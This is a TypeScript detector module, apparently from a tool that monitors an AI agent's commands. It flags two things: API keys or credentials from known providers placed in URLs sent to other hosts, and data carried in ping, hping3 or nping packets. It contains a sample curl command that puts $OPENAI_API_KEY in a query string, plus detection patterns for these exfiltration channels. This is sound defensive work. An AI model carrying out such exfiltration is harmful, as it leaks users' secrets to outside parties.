/** What leaves in the request itself rather than in its body: a variable in the URL, bytes in the packets of a ping. */
import type { EventAnalysis } from '../../../contracts/analysis';
import type { AgentEvent } from '../../../contracts/event';
import type { InstallationContext } from '../../../contracts/detector';
import type { Detection } from '../../../contracts/finding';
import { UNKNOWN, argv, invocations } from '../../programs';
import { commandLine } from '../../signs';
import { factsOf, nameOf, standingOf } from '../places';

/** A variable of one known maker inside a URL's query or path. */
const IN_URL =
  /https?:\/\/([\w.-]{1,253})(?::\d{1,5})?[/?][^\s"'|;<>]{0,400}?\$\{?((OPENAI|ANTHROPIC|AWS|AZURE|GITHUB|GH|GITLAB|STRIPE|NPM|PYPI|HF|HUGGING_?FACE|SLACK|GEMINI|MISTRAL|COHERE|DATABASE|DB|PG|POSTGRES|MYSQL|REDIS|MONGO|SECRET|PRIVATE|SSH|VAULT|DOCKER|CI)_?\w{0,40}(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|PASS|CREDENTIALS|URL))\}?/;
const MAX_TEXT = 16 * 1024;

/** `curl "https://h/p?k=$OPENAI_API_KEY"`: a secret of one maker goes to somebody else's host. */
export function variableInUrl(
  { action }: AgentEvent,
  { transfers }: EventAnalysis,
  installation: InstallationContext,
): Detection[] {
  if (action.type !== 'exec' || transfers.length === 0) return [];
  const [whole, host = '', name = '', maker = ''] = IN_URL.exec((action.command ?? '').slice(0, MAX_TEXT)) ?? [];
  if (whole === undefined || host.toLowerCase().includes(maker.toLowerCase().replace('_', ''))) return [];
  const transfer = transfers.find(({ destination }) => destination?.host === host.toLowerCase());
  const standing = standingOf(transfer?.destination, installation);
  if (transfer === undefined || standing === 'here' || standing === 'own' || standing === 'public-service') return [];
  return [
    {
      why: `The value of ${name} is put into an address of ${nameOf(transfer.destination)}`,
      severity: standing === 'drop' || standing === 'address' ? 'high' : 'medium',
      confidence: 'medium',
      dedupeKey: `${host.toLowerCase()} ${name}`,
      techniques: ['T1041', 'T1048'],
      entities: { destination: host.toLowerCase() },
      excerpt: whole.slice(0, 300),
      facts: factsOf(standing),
    },
  ];
}

const PACKETS: Readonly<Record<string, RegExp>> = {
  ping: /^-p$/,
  hping3: /^(?:-E|--file|-e|--sign)$/,
  nping: /^--data(?:-string)?$/,
};

/** Text that only running shows, or a file, in the packets of a ping. */
export function inPackets(analysis: EventAnalysis): Detection[] {
  return invocations(analysis).flatMap((one) => {
    const option = Object.hasOwn(PACKETS, one.program) ? PACKETS[one.program] : undefined;
    if (option === undefined) return [];
    const words = argv(one);
    const at = words.findIndex((word) => option.test(word));
    const value = words[at + 1] ?? '';
    if (at < 0 || !(value.includes(UNKNOWN) || value.includes('/'))) return [];
    return [
      {
        why: `${one.program} carries data in its packets`,
        severity: 'medium' as const,
        confidence: 'medium' as const,
        dedupeKey: `packets ${one.program}`,
        techniques: ['T1048.003', 'T1095'],
        excerpt: commandLine(one),
      },
    ];
  });
}
